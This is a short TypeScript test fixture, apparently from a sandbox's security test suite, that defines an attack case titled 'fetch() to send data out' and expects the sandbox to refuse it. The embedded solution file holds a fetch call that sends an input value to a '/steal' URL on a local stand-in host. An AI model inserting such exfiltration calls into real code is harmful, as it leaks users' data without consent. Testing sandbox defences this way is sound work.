import { defineAttack } from '../attack';

export default defineAttack({
  title: 'fetch() to send data out',
  base: 'numeric',
  files: {
    'reference.ts': `import type { P } from './variants';
declare const fetch: any;
export function solve(p: P): Record<string, number> {
  fetch('http://127.0.0.1:9/steal?w=' + p.w);
  return { z: p.w * p.x + p.b, a: 0.5 };
}
`,
  },
  refused: { file: 'reference.ts', message: /ReferenceError: fetch is not defined.*`fetch` is not available/ },
});
